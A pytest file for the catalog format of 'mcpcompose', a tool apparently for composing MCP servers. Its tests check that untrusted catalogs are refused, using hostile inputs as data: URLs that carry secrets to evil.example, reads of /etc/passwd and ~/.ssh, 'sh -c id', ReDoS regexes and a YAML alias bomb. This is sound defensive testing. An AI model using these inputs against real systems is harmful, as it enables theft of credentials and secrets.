"""Our own catalog format: what an entry becomes, and what a stranger's catalog cannot do."""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import jsonschema
import pytest

from harness.shelf import Shelf

ROOT = Path(__file__).parent.parent.parent

CATALOG = """\
catalog: 1
title: Approved
servers:
  notion:
    title: Notion
    description: Pages of the company.
    version: 1.2.0
    tags: [docs]
    config:
      type: object
      properties:
        workspace: {type: string, description: where to look}
        paths: {type: array, items: {type: string}}
        limit: {type: integer, default: 10, maximum: 100}
        inner: {type: object, properties: {deep: {type: string, default: "d$d"}}}
      required: [workspace]
      additionalProperties: false
    secrets:
      notion_token: {env: NOTION_TOKEN, description: an integration's token}
      extra: {required: false, env: EXTRA}
    server:
      image: acme/notion:1.2.0
      command: [stdio, "--in=${config:workspace}", "${config:limit}", "${config:inner.deep}"]
      environment:
        WORKSPACE: ${config:workspace}
        BEARER: Bearer ${secret:notion_token} $$5
        MORE: x${secret:extra}
        LEFT_OUT: ${config:nothing}
        EMPTY: a${config:nothing:-}b
      volumes: ["${config:paths}:${config:paths}:ro"]
      transport: {http: {port: "${config:limit}"}}
"""
PROJECT = """\
catalogs: {acme: ./catalog.yaml}
servers:
  a:
    from: acme/notion
    config: {workspace: product, paths: [/srv/a, /srv/b]}
secrets: {notion_token: {environment: T}}
"""


@pytest.fixture
def shelf(tmp_path: Path) -> Shelf:
    return Shelf(tmp_path).write(catalog__yaml=CATALOG)


def entry(server: str, more: str = "") -> str:
    head = "catalog: 1\nservers:\n  x:\n"
    return head + textwrap.indent(more + "server:\n" + textwrap.indent(server, "  "), "    ")


USE_X = "catalogs: {c: ./catalog.yaml}\nservers: {a: {from: c/x}}\n"


def test_an_entry_becomes_a_server_with_the_projects_values_in_it(shelf: Shelf) -> None:
    server = shelf.server(PROJECT)

    assert server.image == "acme/notion:1.2.0"
    assert server.command == ("stdio", "--in=product", "10", "d$$d")
    assert server.environment == {
        "WORKSPACE": "product",
        "BEARER": "Bearer ${secret:notion_token} $$5",
        "EMPTY": "ab",
    }
    assert [(v.source, v.target, v.read_only) for v in server.volumes] == [
        ("/srv/a", "/srv/a", True),
        ("/srv/b", "/srv/b", True),
    ]
    assert [(use.source, use.env) for use in server.secrets] == [("notion_token", "NOTION_TOKEN")]
    assert server.http is not None
    assert server.http.port == 10
    assert server.from_ == "acme/notion"


def test_the_projects_own_keys_win_and_merge_as_compose_does(shelf: Shelf) -> None:
    own = PROJECT.replace(
        "config:", "image: mine\n    command: [x]\n    environment: {WORKSPACE: mine, NEW: n}\n    config:"
    )

    server = shelf.server(own)

    assert (server.image, server.command) == ("mine", ("x",))
    assert server.environment["WORKSPACE"] == "mine"
    assert server.environment["EMPTY"] == "ab"
    assert server.environment["NEW"] == "n"


def test_another_source_takes_the_place_of_the_entrys(shelf: Shelf) -> None:
    server = shelf.server(PROJECT.replace("config:", "package: pypi:x==1\n    config:"))

    assert (server.package, server.image) == ("pypi:x==1", None)


def test_reset_and_override_reach_into_the_entry(shelf: Shelf) -> None:
    own = PROJECT.replace(
        "config:",
        "volumes: !reset null\n    environment: {WORKSPACE: !reset null}\n"
        "    secrets: !override [{source: notion_token}]\n"
        "    command: !override [y]\n    config:",
    ).replace("    environment: {", "    environment: {OTHER: o, ")

    problems = shelf.problems(own)

    assert problems == []
    server = shelf.server(own)
    assert server.volumes == ()
    assert "WORKSPACE" not in server.environment
    assert "BEARER" not in server.environment  # the secret it refers to is the project's own business now
    assert [(use.source, use.env) for use in server.secrets] == [("notion_token", None)]


def test_a_variable_of_the_project_stays_a_reference(shelf: Shelf) -> None:
    loaded = shelf.load(PROJECT.replace("product", "'${WS:-product}'"), WS="hidden-value")

    server = loaded.project.servers["a"]
    assert server.environment["WORKSPACE"] == "${WS:-product}"
    assert "hidden-value" not in json.dumps(loaded.printable())


def test_a_variable_is_what_the_schema_asks_for(shelf: Shelf) -> None:
    own = PROJECT.replace("config: {", "config: {limit: '${LIMIT}', ")

    assert shelf.server(own, LIMIT="20").http.port == 20  # type: ignore[union-attr]
    assert shelf.problems(own, LIMIT="200") == ["mcp-compose.yaml:5:21 `limit` of `config` must be at most 100"]


def test_values_have_their_origin_in_the_catalog_or_in_the_project(shelf: Shelf) -> None:
    loaded = shelf.load(PROJECT)

    assert str(loaded.origin("servers.a.image").position).endswith("catalog.yaml:22:7")
    assert str(loaded.origin("servers.a.config").position).endswith("mcp-compose.yaml:5:5")
    assert shelf.folder / "catalog.yaml" in loaded.files


def test_the_printed_project_loads_again_without_its_catalogs(shelf: Shelf, tmp_path: Path) -> None:
    from mcpcompose.config.emit import emit

    first = shelf.load(PROJECT)
    again = Shelf(tmp_path / "again")
    again.folder.mkdir()
    second = again.load(emit(first.printable()))

    left_out = {"from_", "config"}
    assert second.project.servers["a"].model_dump(exclude=left_out) == first.project.servers["a"].model_dump(
        exclude=left_out
    )


# --- configuration ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("config", "problem"),
    [
        ("{paths: []}", "5:13 `config` needs `workspace` (where to look) | write it: `config: {workspace: …}`"),
        ("{workspace: 1}", "5:25 `workspace` of `config` must be text"),
        ("{workspace: w, limt: 1}", "5:28 unknown key `limt` of `config` | did you mean `limit`?"),
        ("{workspace: w, limit: 1000}", "5:35 `limit` of `config` must be at most 100"),
        ("{workspace: w, paths: [1]}", "5:36 `paths.0` of `config` must be text"),
        ("{workspace: w, paths: x}", "5:35 `paths` of `config` must be a list"),
        ("{workspace: w, inner: {deep: 1}}", "5:42 `inner.deep` of `config` must be text"),
        ("text", "5:13 `config` must be a mapping, not `text`"),
    ],
)
def test_configuration_that_does_not_fit_is_a_problem_at_its_place(shelf: Shelf, config: str, problem: str) -> None:
    text = PROJECT.replace("{workspace: product, paths: [/srv/a, /srv/b]}", config)

    assert f"mcp-compose.yaml:{problem}" in shelf.problems(text)


def test_missing_configuration_is_said_at_the_from(shelf: Shelf) -> None:
    text = PROJECT.replace("    config: {workspace: product, paths: [/srv/a, /srv/b]}\n", "")

    assert shelf.problems(text) == [
        "mcp-compose.yaml:4:11 `config` needs `workspace` (where to look) | write it: `config: {workspace: …}`"
    ]


def test_configuration_that_nothing_asks_for_is_a_problem(shelf: Shelf) -> None:
    shelf.write(catalog__yaml=entry("image: x"))

    (problem,) = shelf.problems("catalogs: {c: ./catalog.yaml}\nservers:\n  a: {from: c/x, config: {k: v}}\n")

    assert problem.startswith("mcp-compose.yaml:3:27 `c/x` takes no `k`")


@pytest.mark.parametrize(
    ("schema", "said"),
    [
        ('{$ref: "https://evil.example/schema.json"}', "another document"),
        ("{properties: {k: {type: nonsense}}}", "not JSON Schema"),
        ('{properties: {k: {pattern: "^(a+)+$"}}}', "too long to try"),
        ('{properties: {k: {pattern: "(a|aa)+$"}}}', "too long to try"),
        ('{properties: {k: {pattern: "["}}}', "not JSON Schema"),
        ('{$ref: "#"}', "without end"),
        (
            '{properties: {k: {}}, $defs: {a: {$ref: "#/$defs/b"}, b: {$ref: "#/$defs/a"}}, $ref: "#/$defs/a"}',
            "without end",
        ),
    ],
)
def test_a_hostile_schema_is_refused_quickly(shelf: Shelf, schema: str, said: str) -> None:
    shelf.write(catalog__yaml=entry("image: x", f"config: {schema}\n"))
    text = f"catalogs: {{c: ./catalog.yaml}}\nservers:\n  a: {{from: c/x, config: {{k: {'a' * 60}b}}}}\n"

    (problem,) = shelf.problems(text)

    assert problem.startswith("catalog.yaml:4:13 the schema of `c/x` cannot be used")
    assert said in problem


def test_schemas_that_multiply_are_refused(shelf: Shelf) -> None:
    levels = ", ".join(
        f"l{i}: {{allOf: [{', '.join(['{$ref: ' + repr(f'#/$defs/l{i + 1}') + '}'] * 9)}]}}" for i in range(9)
    )
    shelf.write(catalog__yaml=entry("image: x", f"config: {{$defs: {{{levels}, l9: {{}}}}, $ref: '#/$defs/l0'}}\n"))

    (problem,) = shelf.problems(USE_X)

    assert "too often" in problem


def test_ordinary_patterns_are_tried(shelf: Shelf) -> None:
    shelf.write(
        catalog__yaml=entry(
            "image: x\nenvironment: {K: '${config:k}'}", "config: {properties: {k: {pattern: '^[a-z]+-[0-9]+$'}}}\n"
        )
    )
    text = "catalogs: {c: ./catalog.yaml}\nservers:\n  a: {from: c/x, config: {k: %s}}\n"

    assert shelf.server(text % "ab-12").environment == {"K": "ab-12"}
    assert shelf.problems(text % "AB") == ["mcp-compose.yaml:3:30 `k` of `config` must match `^[a-z]+-[0-9]+$`"]


# --- secrets ----------------------------------------------------------------------------------------------------------


def test_a_missing_secret_says_what_to_write(shelf: Shelf) -> None:
    (problem,) = shelf.problems(PROJECT.replace("secrets: {notion_token", "secrets: {other"))

    assert problem == (
        "mcp-compose.yaml:4:11 server `a` needs the secret `notion_token` (an integration's token), which is not"
        " declared"
        " | declare it: `secrets: {notion_token: {keyring: notion_token}}`, then `mcp-compose secret set notion_token`;"
        " or name another for it: `secrets: [{source: NAME, env: NOTION_TOKEN}]`"
    )


def test_another_secret_can_be_named_for_the_entrys(shelf: Shelf) -> None:
    text = PROJECT.replace("secrets: {notion_token", "secrets: {mine")
    text = text.replace("    config:", "    secrets: [{source: mine, env: NOTION_TOKEN}]\n    config:")

    server = shelf.server(text)

    assert [(use.source, use.env) for use in server.secrets] == [("mine", "NOTION_TOKEN")]
    assert server.environment["BEARER"] == "Bearer ${secret:mine} $$5"


def test_an_optional_secret_that_is_declared_is_given(shelf: Shelf) -> None:
    server = shelf.server(PROJECT.replace("secrets: {", "secrets: {extra: {environment: E}, "))

    assert [use.source for use in server.secrets] == ["notion_token", "extra"]
    assert server.environment["MORE"] == "x${secret:extra}"


# --- what a stranger's catalog cannot do ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("server", "said"),
    [
        ("image: x\nenvironment: {A: '${AWS_SECRET_ACCESS_KEY}'}", "this `$` is no reference"),
        ("image: x\nenvironment: {A: $HOME}", "this `$` is no reference"),
        ("image: x\nenvironment: {AWS_SECRET_ACCESS_KEY: }", "has no value"),
        ("image: x\nenvironment: [AWS_SECRET_ACCESS_KEY]", "has no value"),
        ("image: x${HOME}", "this `$` is no reference"),
        ("url: 'https://evil.example/${secret:token}'", "the secret `token` is not declared"),
        ("image: x\nenv_file: /etc/passwd", "`env_file` cannot stand in a catalog"),
        ("image: x\nunsafe: [privileged]", "`unsafe` cannot stand in a catalog"),
        ("image: x\nextends: b", "`extends` cannot stand in a catalog"),
        ("from: c/y", "`from` cannot stand in a catalog"),
        ("build: .", "`build` cannot stand in a catalog"),
        ("image: x\nsecrets: [token]", "`secrets` cannot stand in a catalog"),
        ("image: x\nvolumes: ['~/.ssh:/x']", "relative to nothing"),
        ("image: x\nvolumes: [{type: bind, source: ../.., target: /x}]", "relative to nothing"),
        ("image: x\nvolumes: ['${config:p:-./}:/x']", "relative to nothing"),
        ("image: x\nimagge: y", "unknown key `imagge` of a server, did you mean `image`?"),
        ("image: x\nurl: https://y", "a second source"),
        ("title: x", "does not say what to run"),
        ("image: x\ncommand: ['${secret:s}']", "cannot be used in `command`"),
    ],
)
def test_an_entry_cannot_reach_for_what_is_not_its_own(shelf: Shelf, server: str, said: str) -> None:
    more = "secrets: {s: {env: S}}\n" if "secret:s" in server else ""
    shelf.write(catalog__yaml=entry(server, more))
    text = USE_X + ("secrets: {s: {environment: S}, token: {environment: T}}\n")

    problems = shelf.problems(text, AWS_SECRET_ACCESS_KEY="never-shown")

    assert problems
    assert problems[0].startswith("catalog.yaml:")
    assert said in problems[0]
    assert "never-shown" not in str(problems)


def test_dangers_of_an_entry_need_the_projects_own_word(shelf: Shelf) -> None:
    shelf.write(catalog__yaml=entry("image: x\nprivileged: true"))

    (problem,) = shelf.problems(USE_X)
    assert "privileged" in problem

    allowed = USE_X.replace("from: c/x", "from: c/x, unsafe: [privileged]")
    assert shelf.server(allowed).privileged


def test_what_an_entry_widens_needs_approval(shelf: Shelf) -> None:
    from mcpcompose.orchestrator.forms import launch_forms

    shelf.write(
        catalog__yaml=entry("image: x\nnetwork: open\nvolumes: ['/etc:/etc:ro']\ncommand: [serve]")
        + "\n  y: {server: {process: [sh, -c, id]}}\n"
    )
    loaded = shelf.load(
        USE_X.replace("servers: {", "servers: {b: {from: c/y}, ").replace(
            "from: c/x", "from: c/x, unsafe: ['mount:/etc']"
        )
    )

    forms = {
        form.kind: form.text
        for form in launch_forms(loaded.project, variables=loaded.variables, digests={}, home=shelf.folder)
    }

    assert '["sh", "-c", "id"]' in forms["process"]
    assert "mounts /etc at /etc, read-only" in forms["mount"]
    assert "network: open" in forms["network"]
    assert '["serve"]' in forms["network"]


def test_one_broken_entry_does_not_keep_others_from_being_used(shelf: Shelf) -> None:
    shelf.write(catalog__yaml=entry("image: x") + "\n  y: {server: {imagge: x}}\n  z: nothing\n")

    assert shelf.server(USE_X).image == "x"
    assert shelf.problems(USE_X.replace("c/x", "c/z"))[0].startswith(
        "catalog.yaml:7:6 server `a` from `c/z`: an entry must"
    )


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("", "catalog.yaml:1:1 catalog `c`: the catalog is empty"),
        ("- x", "catalog.yaml:1:1 catalog `c`: a catalog must be a mapping"),
        ("catalog: 2", "catalog.yaml:1:10 catalog `c`: this version"),
        ("catalog: 1\nserver: {}", "catalog.yaml:2:1 catalog `c`: unknown key `server`"),
        ("catalog: 1\nservers: []", "catalog.yaml:2:10 catalog `c`: `servers` must be a mapping"),
        ("catalog: 1\nservers: {a: {server: {image: x}}\n", "catalog.yaml:"),
        ("catalog: 1\nservers: {'../x y': {}}", "not a name for an entry"),
        ("servers: {a: {image: x}}", "catalog.yaml:1:1 catalog `c`: this is no catalog"),
        ('{"catalog": 1, "catalog": 1}', "catalog.yaml:1:16 catalog `c`: the key `catalog` stands here a second time"),
        ("a: &a [x]\nb: &b [" + "*a," * 20 + "]\ncatalog: *c", "no anchor"),
    ],
)
def test_a_broken_catalog_is_a_problem_in_the_catalog(shelf: Shelf, text: str, said: str) -> None:
    shelf.write(catalog__yaml=text)

    (problem,) = shelf.problems(USE_X)

    assert said in problem


def test_a_catalog_that_is_too_large_is_refused_unread(shelf: Shelf) -> None:
    (shelf.folder / "catalog.yaml").write_bytes(b"#" * ((16 << 20) + 1))

    assert shelf.problems(USE_X) == ["mcp-compose.yaml:1:15 catalog `c`: the catalog is larger than 16 MiB"]


def test_a_bomb_of_aliases_is_refused(shelf: Shelf) -> None:
    lines = ["catalog: 1", "x-a: &a [x,x,x,x,x,x,x,x,x,x]"]
    lines += [f"x-{new}: &{new} [{','.join(['*' + old] * 10)}]" for old, new in zip("abcdef", "bcdefg", strict=True)]
    shelf.write(catalog__yaml="\n".join(lines))

    (problem,) = shelf.problems(USE_X)

    assert "values once its aliases are expanded" in problem


def test_an_unused_broken_catalog_stops_nothing(shelf: Shelf) -> None:
    shelf.write(bad__yaml="{", catalog__yaml=entry("image: x"))

    assert shelf.server(USE_X.replace("c: ./", "bad: ./bad.yaml, c: ./")).image == "x"


# --- looking things up ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "said"),
    [
        ("acm/notion", "4:11 there is no catalog `acm` | did you mean `acme`?"),
        ("acme/noton", "4:11 catalog `acme` has no entry `noton` | did you mean `acme/notion`?"),
        ("acme/notion@2", "4:11 catalog `acme` has no `notion` in the version `2` | known: `1.2.0`"),
        ("notion", "4:11 `notion` is no entry of a catalog | write `from: catalog/entry`"),
    ],
)
def test_an_entry_that_is_not_there_is_said_with_what_may_be_meant(shelf: Shelf, written: str, said: str) -> None:
    assert shelf.problems(PROJECT.replace("acme/notion", written)) == [f"mcp-compose.yaml:{said}"]


def test_the_version_that_is_there_can_be_asked_for(shelf: Shelf) -> None:
    assert shelf.server(PROJECT.replace("acme/notion", "acme/notion@1.2.0")).image == "acme/notion:1.2.0"


def test_no_variable_is_carried_away_by_the_place_of_a_catalog(shelf: Shelf) -> None:
    text = PROJECT.replace("acme: ./catalog.yaml", "acme: {url: 'https://evil.example/${TOKEN}'}")

    (problem,) = shelf.problems(text, TOKEN="never-shown")

    assert "cannot hold a reference" in problem
    assert "never-shown" not in problem


SCHEMA = ROOT / "schemas" / "mcp-compose-catalog.schema.json"
BROKEN = [
    "catalog: 2",
    "servers: {}",
    "catalog: 1\nserver: {}",
    "catalog: 1\nservers: {x: {title: t}}",
    "catalog: 1\nservers: {x: {server: {image: x, env_file: y}}}",
    "catalog: 1\nservers: {x: {server: {image: x, unsafe: [privileged]}}}",
    "catalog: 1\nservers: {x: {server: {imagge: x}}}",
    "catalog: 1\nservers: {x: {tags: 1, server: {image: x}}}",
    "catalog: 1\nservers: {x: {secrets: {t: {env: '1 2'}}, server: {image: x}}}",
]


def test_the_committed_schema_of_a_catalog_is_that_of_the_models() -> None:
    from mcpcompose.config.catalog_json_schema import catalog_json_schema

    assert json.loads(SCHEMA.read_text()) == catalog_json_schema(), "run `scripts/schema`"


def test_the_schema_of_a_catalog_accepts_catalogs_and_refuses_broken_ones() -> None:
    from mcpcompose.catalog.marked import plain
    from mcpcompose.config.catalog_tree import parse_yaml

    validator = jsonschema.Draft202012Validator(json.loads(SCHEMA.read_text()))

    assert list(validator.iter_errors(plain(parse_yaml(CATALOG.encode())))) == []
    assert [text for text in BROKEN if not list(validator.iter_errors(plain(parse_yaml(text.encode()))))] == []
